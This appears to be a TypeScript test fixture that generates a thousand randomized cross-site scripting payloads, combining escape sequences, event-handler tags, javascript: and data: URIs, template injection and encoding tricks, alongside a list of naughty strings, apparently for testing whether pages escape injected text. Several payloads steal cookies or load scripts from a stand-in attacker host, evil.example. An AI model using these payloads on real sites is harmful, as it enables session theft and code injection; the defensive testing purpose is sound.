import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }
import { createRandom } from '../../mock-api/random.ts'

/*
 * A small grammar of attacks on pages that put text into markup: a way out of the surrounding text,
 * something that runs, and a disguise against filters. Each would set `pwned`, open a dialog or
 * call another origin.
 */
const random = createRandom('injection')
const { pick, chance } = random

const wayOut = ['', '', '"', "'", '">', "'>", '`', '-->', '</title>', '</style>', '</textarea>']
const closers = ['', '', '<!--', '//', '<x x="', "<x x='"]
const gaps = [' ', '/', '\t', '\n', '\f', ' / ', '/**/']
const quotes = ['', '"', "'", '`']
const actions = [
  'globalThis.pwned=1',
  'pwned=1',
  'alert(1)',
  'top["al"+"ert"](1)',
  'fetch("https://evil.example/"+document.cookie)',
  'new Image().src="https://evil.example/"',
  'import("https://evil.example/x.js")',
  'eval("pwned=1")',
  'Function("pwned=1")()',
  'setTimeout("pwned=1")',
  'localStorage.pwned=1,pwned=1',
]
const ownEvents = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['p style=animation-name:x', 'onanimationstart'],
  ['a tabindex=0 autofocus', 'onfocusin'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
] as const
const carriers: ((address: string) => string)[] = [
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<a href="${address}">open</a>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><use href="${address}"></use></svg>`,
]
const plain: ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<script type=module>${action}</script>`,
  (action) => `<iframe srcdoc="<script>parent.${action}</script>"></iframe>`,
  (action) => `{{constructor.constructor('${action}')()}}`,
  (action) => '${' + action + '}',
  (action) => `<template><script>${action}</script></template>`,
  () => '<script src=https://evil.example/x.js></script>',
  () => '<link rel=stylesheet href=https://evil.example/x.css>',
  () => '<base href=https://evil.example/>',
  () => '<style>@import "https://evil.example/x.css";</style>',
  (action) => `</script><script>${action}</script>`,
]

const odd = (text: string) =>
  text.replaceAll(/[a-z]/g, (letter) => (chance(0.5) ? letter.toUpperCase() : letter))
const entities = (text: string) =>
  text.replaceAll(/./g, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`)
const percent = (text: string) => encodeURIComponent(text)

function vector(): string {
  const action = pick(actions)
  const kind = random.integer(0, 9)
  if (kind < 5) {
    const [tag, event] = pick(ownEvents)
    const quote = pick(quotes)
    const name = chance(0.4) ? odd(event) : event
    const hidden = chance(0.3) ? entities(action) : action
    return `<${chance(0.3) ? odd(tag) : tag}${pick(gaps)}${name}=${quote}${hidden}${quote}>`
  }
  if (kind < 8) {
    const scheme = pick([
      'javascript:',
      'java\tscript:',
      ' javascript:',
      'JaVaScRiPt:',
      'data:text/html,<script>',
    ])
    return pick(carriers)(`${scheme}${chance(0.3) ? percent(action) : action}`)
  }
  return pick(plain)(action)
}

function generate(count: number): string[] {
  const made = new Set<string>()
  while (made.size < count) made.add(`${pick(wayOut)}${vector()}${pick(closers)}`)
  return [...made]
}

export const payloads = generate(1000)

export const naughtyStrings = naughty.filter((text) => text.trim() !== '')

/** Several attacks share one text, so that few reads cover all of them. */
export function inBatches(texts: readonly string[], size: number): string[] {
  const count = Math.ceil(texts.length / size)
  return Array.from({ length: count }, (_, at) => texts.slice(at * size, (at + 1) * size).join(' '))
}
